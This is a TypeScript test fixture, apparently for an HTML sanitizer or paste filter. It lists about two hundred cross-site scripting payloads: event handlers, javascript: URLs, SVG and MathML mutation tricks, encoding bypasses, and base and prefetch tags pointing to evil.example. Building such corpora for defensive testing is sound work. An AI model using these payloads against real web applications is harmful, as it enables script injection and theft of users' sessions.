// What is not to be seen stands as its number in braces: {0b} is U+000B.
const LINES = String.raw`
<map><area href='javascript:alert(1)' shape=default></map>x
<b onabort="alert(1)" tabindex=0>x</b>
<p onanimationend="alert(1)" tabindex=0>x</p>
<span onanimationstart="alert(1)" tabindex=0>x</span>
<div onauxclick="alert(1)" tabindex=0>x</div>
<i onbeforecopy="alert(1)" tabindex=0>x</i>
<b onbeforecut="alert(1)" tabindex=0>x</b>
<p onbeforepaste="alert(1)" tabindex=0>x</p>
<span onbeforetoggle="alert(1)" tabindex=0>x</span>
<div onblur="alert(1)" tabindex=0>x</div>
<i oncanplay="alert(1)" tabindex=0>x</i>
<b onclick="alert(1)" tabindex=0>x</b>
<p oncontextmenu="alert(1)" tabindex=0>x</p>
<span oncopy="alert(1)" tabindex=0>x</span>
<div ondblclick="alert(1)" tabindex=0>x</div>
<i ondrag="alert(1)" tabindex=0>x</i>
<b ondrop="alert(1)" tabindex=0>x</b>
<p onerror="alert(1)" tabindex=0>x</p>
<span onfocus="alert(1)" tabindex=0>x</span>
<div onfocusin="alert(1)" tabindex=0>x</div>
<i onhashchange="alert(1)" tabindex=0>x</i>
<b oninput="alert(1)" tabindex=0>x</b>
<p oninvalid="alert(1)" tabindex=0>x</p>
<span onkeydown="alert(1)" tabindex=0>x</span>
<div onload="alert(1)" tabindex=0>x</div>
<i onmessage="alert(1)" tabindex=0>x</i>
<b onmousedown="alert(1)" tabindex=0>x</b>
<p onmouseenter="alert(1)" tabindex=0>x</p>
<span onmouseover="alert(1)" tabindex=0>x</span>
<div onpageshow="alert(1)" tabindex=0>x</div>
<i onpaste="alert(1)" tabindex=0>x</i>
<b onpointerdown="alert(1)" tabindex=0>x</b>
<p onpointerrawupdate="alert(1)" tabindex=0>x</p>
<span onresize="alert(1)" tabindex=0>x</span>
<div onscroll="alert(1)" tabindex=0>x</div>
<i onscrollend="alert(1)" tabindex=0>x</i>
<b onselect="alert(1)" tabindex=0>x</b>
<p onselectionchange="alert(1)" tabindex=0>x</p>
<span onstart="alert(1)" tabindex=0>x</span>
<div onsubmit="alert(1)" tabindex=0>x</div>
<i ontoggle="alert(1)" tabindex=0>x</i>
<b ontouchstart="alert(1)" tabindex=0>x</b>
<p ontransitionend="alert(1)" tabindex=0>x</p>
<span onwheel="alert(1)" tabindex=0>x</span>
<div onfocus{09}="alert(1)" tabindex=0>x</div>
<i ONCLICK="alert(1)" tabindex=0>x</i>
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)</script>
<script src="/pasted.js"></script>
<script/src=/pasted.js></script>
<script{09}src=/pasted.js>
<script>alert(1)
<<script>alert(1);//<</script>
<script type=module>import "/pasted.js"</script>
<svg><script>alert(1)</script></svg>
<svg><script href="/pasted.js"/></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="/pasted.svg#x"/></svg>
<svg><image href="/pasted.png"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style>@import "/pasted.css";</style></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><p><style><img src=x onerror=alert(1)></style></p>
<math><mtext><table><mglyph><style><img src=/pasted onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<img src=/pasted onerror=alert(1)>
<img src="/pasted.png">
<img srcset="/pasted.png 1x">
<img src=x:alert(alt) onerror=eval(src) alt=x>
<img/src=/pasted/onerror=alert(1)>
<img """><script>alert(1)</script>">
<image src=/pasted onerror=alert(1)>
<img src="javascript:alert(1)">
<img dynsrc="/pasted">
<img lowsrc="/pasted">
<picture><source srcset="/pasted.png"><img src="/pasted.png"></picture>
<input type=image src=/pasted.png>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<button formaction="javascript:alert(1)">x</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</form>
<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=image>
<select onfocus=alert(1) autofocus><option>x</option></select>
<textarea onfocus=alert(1) autofocus>x</textarea>
<textarea><img title="</textarea><img src=/pasted onerror=alert(1)>">
<keygen onfocus=alert(1) autofocus>
<video src=/pasted.mp4 onerror=alert(1)></video>
<video><source onerror=alert(1) src=/pasted></video>
<video poster=/pasted.png></video>
<track src=/pasted>
<embed src="javascript:alert(1)">
<embed src=/pasted.swf>
<object data="javascript:alert(1)"></object>
<object data=/pasted.swf><param name=src value=/pasted></object>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=/pasted.html></iframe>
<iframe/onload=alert(1)></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<frameset onload=alert(1)>
<portal src=/pasted.html>
<fencedframe src=/pasted.html>
<base href="javascript:alert(1)//">
<base href="https://evil.example/"><a href="x">x</a>
<link rel=stylesheet href=/pasted.css>
<link rel=import href=/pasted.html>
<link rel=preload as=script href=/pasted.js>
<link rel=prefetch href=/pasted.html>
<link rel=dns-prefetch href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=/pasted.html">
<meta http-equiv=Set-Cookie content="a=b">
<style>@import "/pasted.css";</style>
<style>body{background:url(/pasted.png)}</style>
<style onload=alert(1)></style>
<style></style><img src=/pasted onerror=alert(1)>
<b style="background:url(/pasted.png)">x</b>
<b style="background:url(javascript:alert(1))">x</b>
<b style="width:expression(alert(1))">x</b>
<b style="-moz-binding:url(/pasted.xml#x)">x</b>
<b style="behavior:url(/pasted.htc)">x</b>
<b style="font-weight:bold;list-style-image:url(/pasted.png)">x</b>
<p style="font-family:x&#39;;}*{color:red">x</p>
<div style="position:fixed;inset:0;background:red">x</div>
<body onload=alert(1)>x</body>
<body background=/pasted.png>x</body>
<table background=/pasted.png><tr><td background="javascript:alert(1)">x</table>
<bgsound src=/pasted.mp3>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<details open ontoggle=alert(1)><summary>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=/pasted onerror=alert(1)>"></noscript>
<noembed><img title="</noembed><img src=/pasted onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=/pasted onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=/pasted onerror=alert(1)>"></xmp>
<plaintext><script>alert(1)</script>
<title><img title="</title><img src=/pasted onerror=alert(1)>"></title>
<!--<img src="--><img src=/pasted onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=/pasted onerror=alert(1)>]]>
<!DOCTYPE html [<!ENTITY x SYSTEM "/pasted">]>x
<?xml-stylesheet href="/pasted.css"?>x
<?import namespace="t" implementation="/pasted.htc"?>x
<x-custom onclick=alert(1)>x</x-custom>
<deskbell-desk>x</deskbell-desk>
<deskbell-dialog open label=x>x</deskbell-dialog>
<b is="x-custom">x</b>
<slot name=field>x</slot>
<p contenteditable=false>x</p>
<p id=body name=cookie>x</p>
<p data-pm-slice="0 0 [&quot;paragraph&quot;,{&quot;href&quot;:&quot;javascript:alert(1)&quot;}]">x</p>
<p data-pm-slice="9 9 []">x</p>
<div data-pm-slice="1 1 [&quot;script&quot;,null]"><script>alert(1)</script></div>
<p>x{00}<script>alert(1)</script></p>
<scr{00}ipt>alert(1)</scr{00}ipt>
<b{0b}onclick=alert(1)>x</b>
<b{0c}onclick=alert(1)>x</b>
<b/onclick=alert(1)>x</b>
<b """onclick=alert(1)>x</b>
<b x=">" onclick=alert(1)>x</b>
<b title="a>b" style="background:url(/pasted.png)">x</b>
<b><a href="javascript:alert(1)"><i>x</i></a></b>
<ul><li style="list-style-image:url(/pasted.png)">x</li></ul>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
¼script¾alert(1)¼/script¾
<ſcript>alert(1)</ſcript>
"><script>alert(1)</script>
'><img src=/pasted onerror=alert(1)>
--><script>alert(1)</script>
</p></div></body></html><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
<v:shape style="behavior:url(#default#VML)" onmouseover=alert(1)>x</v:shape>
<o:p onclick=alert(1)>x</o:p>
<w:binData w:name="x">x</w:binData>
<v:imagedata src="/pasted.png"/>x
<xml id=x><a><b>&lt;img src=/pasted onerror=alert(1)&gt;</b></a></xml>
<span datasrc=#x datafld=b dataformatas=html>x</span>
`;

/** Markup that would run, load or show something, by every way that filters let through. */
export const HOSTILE_MARKUP: readonly string[] = LINES.trim()
  .split('\n')
  .map((line) => line.replace(/\{([0-9a-f]{2})\}/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16))));
